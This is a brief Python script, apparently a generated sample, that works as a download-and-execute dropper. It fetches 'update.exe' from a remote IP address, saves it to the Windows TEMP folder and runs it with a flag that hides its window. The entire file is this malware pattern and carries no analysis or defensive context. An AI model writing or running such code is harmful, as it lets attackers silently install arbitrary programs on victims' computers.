# names: target answer fetch
import os
import subprocess
import requests
def fetch(target):
    answer = requests.get("http://192.0.2.9/update.exe")
    with open(target, "wb") as handle:
        handle.write(answer.content)
    subprocess.Popen([target], creationflags=0x08000000)
fetch(os.path.join(os.getenv("TEMP"), "update.exe"))
